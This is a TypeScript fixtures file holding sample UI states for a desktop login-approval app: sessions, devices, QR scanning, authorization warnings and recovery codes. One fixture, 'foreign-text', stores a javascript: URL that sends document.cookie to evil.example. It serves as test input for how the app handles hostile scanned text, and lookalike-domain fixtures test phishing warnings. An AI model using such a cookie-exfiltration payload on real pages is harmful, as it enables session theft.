import type { AccountView, ActivityEntry, CameraChoice, EndReason, Outline, PinView, Problem, Prompt, Screen, SessionView, Settings, SignIn, ViewState } from "../generated";

/** A moment that all fixtures share, in Unix seconds; the gallery shifts it to the present. */
export const FIXTURE_NOW_S = 1_795_000_000;

const settings: Settings = {
  camera: null,
  mirrored: {},
  start_at_login: false,
  close_to_tray: true,
  notifications: true,
  language: "en",
  theme: "light",
};

const noPin: PinView = { set: false, wait_s: 0, blocked: false, checking: false, problem: null, judged: 0, passed: 0 };
const withPin: PinView = { ...noPin, set: true };

export const ada: AccountView = {
  id: "a1",
  server_name: "Example",
  origin: "https://login.example.com",
  host: "login.example.com",
  username: "ada",
  display_name: "Ada Lovelace",
  pinned: false,
  state: "ready",
  activity_alarm: false,
};

export const work: AccountView = {
  id: "a2",
  server_name: "Analytical Engines Ltd",
  origin: "https://id.analytical-engines.example:8443",
  host: "id.analytical-engines.example:8443",
  username: "a.lovelace",
  display_name: "Ada Lovelace (work)",
  pinned: true,
  state: "ready",
  activity_alarm: false,
};

function problem(error: Problem["error"]): Problem {
  return { error, details: `fixture: ${error.code}` };
}

const sessions: SessionView[] = [
  { id: "s1", created_at: FIXTURE_NOW_S - 20, last_seen_at: FIXTURE_NOW_S - 5, address: "203.0.113.7", browser: "Firefox 153", system: "Windows 11", device_name: "Workshop", by_this_device: true, clients: [] },
  { id: "s2", created_at: FIXTURE_NOW_S - 9000, last_seen_at: FIXTURE_NOW_S - 7300, address: "198.51.100.23", browser: "Safari 27", system: "macOS", device_name: "Workshop", by_this_device: true, clients: ["Grafana", "Wiki"] },
  { id: "s3", created_at: FIXTURE_NOW_S - 400_000, last_seen_at: FIXTURE_NOW_S - 350_000, address: "2001:db8::17", browser: "", system: "", device_name: "Ada’s laptop", by_this_device: false, clients: [] },
];

const activity: ActivityEntry[] = [
  { seq: 9, at: FIXTURE_NOW_S - 15, kind: "signed_in", summary: "A browser was signed in.", address: "203.0.113.7", device: "Workshop", subject: null, browser: "Firefox 153", system: "Windows 11" },
  { seq: 8, at: FIXTURE_NOW_S - 18, kind: "sign_in_approved", summary: "A login was approved.", address: "203.0.113.7", device: "Workshop", subject: null, browser: "Firefox 153", system: "Windows 11" },
  { seq: 7, at: FIXTURE_NOW_S - 4000, kind: "sign_in_reported", summary: "A login was reported as not mine.", address: "192.0.2.44", device: "Workshop", subject: null, browser: "Chrome 148", system: "Android" },
  { seq: 6, at: FIXTURE_NOW_S - 90_000, kind: "device_enrolled", summary: "A device was added.", address: "198.51.100.23", device: "Ada’s laptop", subject: null, browser: "", system: "" },
  { seq: 5, at: FIXTURE_NOW_S - 91_000, kind: "sign_in_denied", summary: "A login was denied.", address: "203.0.113.9", device: "Workshop", subject: null, browser: "Safari 27", system: "macOS" },
];

const prompt: Prompt = {
  id: 1,
  origin: "https://login.example.com",
  host: "login.example.com",
  client: null,
  for_device: false,
  scopes: [],
  account: "a1",
  warnings: [],
  seen: { address: "203.0.113.7", started_at: FIXTURE_NOW_S - 8, started_s_ago: 8, same_network: true, known_browser: true, frame_age_s: 3 },
  claimed: { browser: "Firefox 153", system: "Windows 11", language: "de" },
  via: "camera",
  check_wanted: true,
  verification_required: false,
  tries_left: null,
  left_s: 108,
  deciding: null,
  problem: null,
};

const live = { camera: "live", name: "Integrated Camera", instead_of: null, width: 640, height: 480, mirrored: true, outline: null, hint: "search" } as const;
const cameras: CameraChoice[] = [
  { id: "Integrated Camera|1", name: "Integrated Camera", is_there: true },
  { id: "Rear Camera|2", name: "Rear Camera", is_there: true },
  { id: "USB camera|3", name: "USB camera", is_there: false },
];
const found: Outline = [
  { x: 0.38, y: 0.3 },
  { x: 0.62, y: 0.33 },
  { x: 0.6, y: 0.66 },
  { x: 0.36, y: 0.62 },
];

const QR =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAACkAAAApAQAAAACAGz1bAAAA5UlEQVR42mP4DwINDFipD/LnTNgbGL5fDsr93sDwJfZBqDiQCglbCqJCz14FUt+vHZwLlPsgLPQFqPL/pyJ+oL4/5pdLyxsY/v27e0+/geEHwwWv9w0MP7/ciAVq+Gja9cofKPh6yWb1BoZv5euC+IEagn4dXd7A8CvYSnk/kCdywAGo72+EwLnpQBtEGFYAbfhaJCEEcsv7BTOARn94deJXONCUwCemz4EaWP8eXg+0/fvvRCDvg1zvvHSgyjvps7cD3RkQ/8Ec5Oq1bfZAKljgUjtQ7kq7PtCGD7LXOMxx+B1CAQAjhZ554XVzCAAAAABJRU5ErkJggg==";

function state(screen: Screen, more: Partial<ViewState> = {}): ViewState {
  return { revision: 1, screen, notice: null, accounts: [ada], settings, pin: noPin, ...more };
}

const CODES = ["U6T2-PJ5H-KQ7A-XW3M", "7DNC-2YEK-OH4B-6ZRT", "MWVA-JS3L-5XPQ-I2GF", "Q4BZ-TR6N-UC7Y-DLH3", "EA5K-WX2J-MV4S-P7OG", "L3HI-6QDF-ZN5T-RCB2", "YJ7U-GMK4-A6WP-SX5E", "2VOT-BL7C-H3QR-NFI6", "XZ4D-EUP5-J2YG-KM7A", "R6SN-FQ3W-TC5L-OV4H"];

function recovery(part: Partial<Extract<Screen, { view: "recovery_codes" }>>): ViewState {
  return state({ view: "recovery_codes", account: "a1", first: false, left: null, codes: [], working: false, saved: null, problem: null, ...part });
}

const signIn: SignIn = { account: "a1", host: "login.example.com", session: "s9", at: FIXTURE_NOW_S - 40, browser: "Chromium 148", system: "Linux", device: "Ada’s laptop" };

function scan(part: Partial<Extract<Screen, { view: "scan" }>>): ViewState {
  return state({ view: "scan", camera: live, cameras: [], work: "idle", problem: null, ...part });
}

function authorize(part: Partial<Prompt>, more: Partial<ViewState> = {}): ViewState {
  return state({ view: "authorize", prompt: { ...prompt, ...part } }, more);
}

function ended(reason: EndReason): ViewState {
  return state({ view: "outcome", origin: ada.origin, account: "a1", for_device: false, outcome: { outcome: "ended", reason } });
}

/** One state for every face of every view. The names are the arguments of `gallery.html?fixture=`. */
export const fixtures: Record<string, ViewState> = {
  "loading": state({ view: "loading" }, { accounts: [] }),
  "start-trouble-keychain-none": state({ view: "start_trouble", problem: problem({ code: "keychain_none" }), retrying: false }, { accounts: [] }),
  "start-trouble-retrying": state({ view: "start_trouble", problem: problem({ code: "keychain_locked" }), retrying: true }, { accounts: [] }),
  "start-trouble-accounts-unreadable": state({ view: "start_trouble", problem: problem({ code: "accounts_unreadable", path: "/home/ada/.local/share/app.countersign.desktop/accounts.json" }), retrying: false }, { accounts: [] }),
  "first-start": state({ view: "first_start" }, { accounts: [] }),
  "add-account": state({ view: "add_account", problem: null }, { accounts: [] }),
  "add-account-link-used": state({ view: "add_account", problem: problem({ code: "link_used" }) }, { accounts: [] }),
  "confirm-contact": state({ view: "confirm_contact", host: "login.example.com", origin: "https://login.example.com", pinned: false }, { accounts: [] }),
  "confirm-contact-pinned": state({ view: "confirm_contact", host: "192.168.1.20:8443", origin: "https://192.168.1.20:8443", pinned: true }, { accounts: [] }),
  "enrolling": state({ view: "enrolling", host: "login.example.com" }, { accounts: [] }),
  "confirm-account": state({ view: "confirm_account", origin: ada.origin, server_name: ada.server_name, username: "ada", display_name: "Ada Lovelace", working: false, problem: null }, { accounts: [] }),
  "choose-account": state({ view: "choose_account", origin: ada.origin, candidates: ["a1", "a3"] }, { accounts: [ada, { ...ada, id: "a3", username: "countess", display_name: "Countess of Lovelace" }] }),
  "scan": scan({}),
  "scan-found": scan({ camera: { ...live, outline: found } }),
  "scan-asking": scan({ camera: { ...live, outline: found }, work: "asking_server" }),
  "scan-starting": scan({ camera: { camera: "starting" } }),
  "scan-too-far": scan({ camera: { ...live, hint: "move_closer" } }),
  "scan-too-dark": scan({ camera: { ...live, hint: "too_dark" } }),
  "scan-blurred": scan({ camera: { ...live, hint: "hold_still" } }),
  "scan-other-camera": {
    ...scan({ camera: { ...live, name: "Rear Camera", instead_of: "USB camera", mirrored: false }, cameras }),
    settings: { ...settings, camera: "USB camera|3" },
  },
  "scan-off": scan({ camera: { camera: "off" } }),
  "scan-no-camera": scan({ camera: { camera: "failed", problem: problem({ code: "camera_none" }), watching: true } }),
  "scan-camera-busy": scan({ camera: { camera: "failed", problem: problem({ code: "camera_busy" }), watching: false } }),
  "scan-expired": scan({ problem: problem({ code: "code_expired" }), cameras }),
  "type-code": state({ view: "type_code", account: "a1", working: false, problem: null }, { accounts: [ada, work] }),
  "type-code-unknown": state({ view: "type_code", account: "a1", working: false, problem: problem({ code: "code_unknown" }) }),
  "foreign-text": state({ view: "foreign_text", kind: "other_scheme", text: "javascript:fetch('https://evil.example/?'+document.cookie)", truncated: false, note: { note: "none" } }),
  "foreign-unknown-server": state({ view: "foreign_text", kind: "login_code", text: "HTTPS://LOGIN.OTHER.EXAMPLE/Q/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", truncated: false, note: { note: "unknown_server", origin: "https://login.other.example" } }),
  "foreign-lookalike": state({ view: "foreign_text", kind: "login_code", text: "HTTPS://LOGIN.EXAMP1E.COM/Q/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", truncated: false, note: { note: "lookalike", origin: "https://login.examp1e.com", resembles: "https://login.example.com" } }),
  "foreign-long": state({ view: "foreign_text", kind: "text", text: "All work and no play. ".repeat(180), truncated: true, note: { note: "none" } }),
  "authorize": authorize({}),
  "authorize-other-network": authorize({
    warnings: [
      { code: "different_network", severity: "danger" },
      { code: "browser_first_seen", severity: "caution" },
    ],
    seen: { ...prompt.seen, same_network: false, known_browser: false },
  }),
  "authorize-link": authorize({
    via: "link",
    warnings: [
      { code: "came_by_link", severity: "danger" },
      { code: "network_unknown", severity: "caution" },
      { code: "old_frame", severity: "info" },
      { code: "browser_first_seen", severity: "caution" },
    ],
    seen: { ...prompt.seen, same_network: null, known_browser: false, frame_age_s: 41 },
    left_s: 14,
  }),
  "authorize-client": authorize({ client: "Drawing Board", scopes: ["openid", "profile"], host: work.host, origin: work.origin, account: "a2" }, { accounts: [ada, work] }),
  "authorize-device": authorize({
    client: "Backup tool",
    for_device: true,
    scopes: ["openid", "profile", "backup:write"],
    via: "typed",
    check_wanted: false,
    warnings: [{ code: "came_by_typing", severity: "danger" }],
    seen: { ...prompt.seen, known_browser: false, frame_age_s: null },
    claimed: { browser: "", system: "", language: "" },
  }),
  "authorize-wrong-number": authorize({ tries_left: 2, problem: problem({ code: "wrong_check", tries_left: 2 }) }),
  "authorize-deciding": authorize({ deciding: "approve" }),
  "authorize-with-pin": authorize({}, { pin: withPin }),
  "authorize-site-wants-pin": authorize({ verification_required: true }),
  "authorize-pin-waits": authorize({}, { pin: { ...withPin, wait_s: 58 } }),
  "authorize-pin-blocked": authorize({}, { pin: { ...withPin, blocked: true } }),
  "waiting-for-page": state({ view: "waiting_for_page", origin: ada.origin, account: "a1", for_device: false, left_s: 58, problem: null }),
  "waiting-for-device": state({ view: "waiting_for_page", origin: ada.origin, account: "a1", for_device: true, left_s: 58, problem: null }),
  "outcome-device-signed-in": state({ view: "outcome", origin: ada.origin, account: "a1", for_device: true, outcome: { outcome: "signed_in", session: { ...sessions[0]!, browser: "Backup tool", system: "" } } }),
  "outcome-device-never-came": state({ view: "outcome", origin: ada.origin, account: "a1", for_device: true, outcome: { outcome: "page_never_came" } }),
  "outcome-signed-in": state({ view: "outcome", origin: ada.origin, account: "a1", for_device: false, outcome: { outcome: "signed_in", session: sessions[0]! } }),
  "outcome-never-came": state({ view: "outcome", origin: ada.origin, account: "a1", for_device: false, outcome: { outcome: "page_never_came" } }),
  "outcome-denied": state({ view: "outcome", origin: ada.origin, account: "a1", for_device: false, outcome: { outcome: "denied" } }),
  "outcome-reported": state({ view: "outcome", origin: ada.origin, account: "a1", for_device: false, outcome: { outcome: "reported" } }),
  "outcome-time-over": ended("time_over"),
  "outcome-wrong-numbers": ended("wrong_numbers"),
  "outcome-by-server": ended("by_server"),
  "outcome-decided-before": ended("decided_before"),
  "outcome-no-answer": ended("no_answer"),
  "sessions": state({ view: "sessions", account: "a1", sessions: { items: sessions, loading: false, problem: null }, ending: ["s3"] }),
  "sessions-two-accounts": state({ view: "sessions", account: "a1", sessions: { items: sessions.slice(0, 1), loading: false, problem: null }, ending: [] }, { accounts: [ada, work], notice: { id: 4, message: { notice: "session_ended" } } }),
  "sessions-empty": state({ view: "sessions", account: "a1", sessions: { items: [], loading: false, problem: null }, ending: [] }),
  "sessions-loading": state({ view: "sessions", account: "a1", sessions: { items: null, loading: true, problem: null }, ending: [] }),
  "sessions-offline": state({ view: "sessions", account: "a1", sessions: { items: sessions, loading: false, problem: problem({ code: "server_unreachable", host: "login.example.com" }) }, ending: [] }),
  "devices": state({
    view: "devices",
    account: "a1",
    devices: {
      items: [
        { id: "d1", name: "Workshop", kind: "linux", created_at: FIXTURE_NOW_S - 9_000_000, last_seen_at: FIXTURE_NOW_S - 3, current: true },
        { id: "d2", name: "Ada’s laptop", kind: "macos", created_at: FIXTURE_NOW_S - 5_000_000, last_seen_at: FIXTURE_NOW_S - 7400, current: false },
        { id: "d3", name: "Old desk computer in the reading room", kind: "windows", created_at: FIXTURE_NOW_S - 5_000_000, last_seen_at: FIXTURE_NOW_S - 3_000_000, current: false },
      ],
      loading: false,
      problem: null,
    },
    changing: [],
  }),
  "add-computer": state({ view: "add_computer", account: "a1", code: { link: "https://login.example.com/E/AAAAAAAAAAAAAAAAAAAAAAAAAA", png: QR, size: 41, left_s: 588 }, problem: null, added: null }),
  "add-computer-added": state({ view: "add_computer", account: "a1", code: null, problem: null, added: "Ada’s laptop" }),
  "add-computer-failed": state({ view: "add_computer", account: "a1", code: null, problem: problem({ code: "server_timeout", host: "login.example.com" }), added: null }),
  "activity": state({
    view: "activity",
    account: "a1",
    entries: {
      items: activity,
      loading: false,
      problem: null,
    },
  }),
  "activity-alarm": state({ view: "activity", account: "a1", entries: { items: activity, loading: false, problem: null } }, { accounts: [{ ...ada, activity_alarm: true }] }),
  "accounts": state({ view: "accounts", working: [] }, { accounts: [ada, work] }),
  "accounts-trouble": state({ view: "accounts", working: [] }, { accounts: [{ ...ada, state: "signed_out" }, { ...work, state: "key_missing", activity_alarm: true }] }),
  "settings": state({ view: "settings", erasing: false, version: "0.1.0" }),
  "settings-with-pin": state({ view: "settings", erasing: false, version: "0.1.0" }, { pin: withPin }),
  "recovery-offer": recovery({ first: true }),
  "recovery-codes": recovery({ first: true, codes: CODES }),
  "recovery-codes-saved": recovery({ codes: CODES, saved: "/home/ada/Documents/countersign-codes-login.example.com-ada.txt" }),
  "recovery-codes-unsaved": recovery({ codes: CODES, problem: problem({ code: "codes_unwritable", path: "/home/ada/Documents" }) }),
  "recovery-left": recovery({ left: 3 }),
  "recovery-none-left": recovery({ left: 0 }),
  "recovery-loading": recovery({}),
  "add-account-recovery-refused": state({ view: "add_account", problem: problem({ code: "recovery_refused" }) }, { accounts: [] }),
  "disowned-ending": state({ view: "disowned", sign_in: signIn, ended: false, problem: null }),
  "disowned": state({ view: "disowned", sign_in: signIn, ended: true, problem: null }),
  "disowned-failed": state({ view: "disowned", sign_in: signIn, ended: false, problem: problem({ code: "server_unreachable", host: "login.example.com" }) }),
  "update-needed": state({ view: "update_needed", problem: problem({ code: "app_too_old", host: "login.example.com" }) }),
  "notice-failed": state({ view: "sessions", account: "a1", sessions: { items: sessions, loading: false, problem: null }, ending: [] }, { notice: { id: 1, message: { notice: "failed", problem: problem({ code: "server_unavailable", host: "login.example.com" }) } } }),
  "notice-new-sign-in": scan({}),
};

fixtures["devices"]!.notice = { id: 5, message: { notice: "recovered", left: 9 } };
fixtures["notice-new-sign-in"]!.notice = { id: 2, message: { notice: "new_sign_in", sign_in: signIn } };

/** What a person pressed there, by test id, where a face of a view comes up by a press alone. */
export const presses: Partial<Record<string, string>> = {
  "authorize-with-pin": "approve",
  "authorize-site-wants-pin": "approve",
  "authorize-pin-waits": "approve",
  "authorize-pin-blocked": "approve",
  "add-account-recovery-refused": "lost-computer",
};
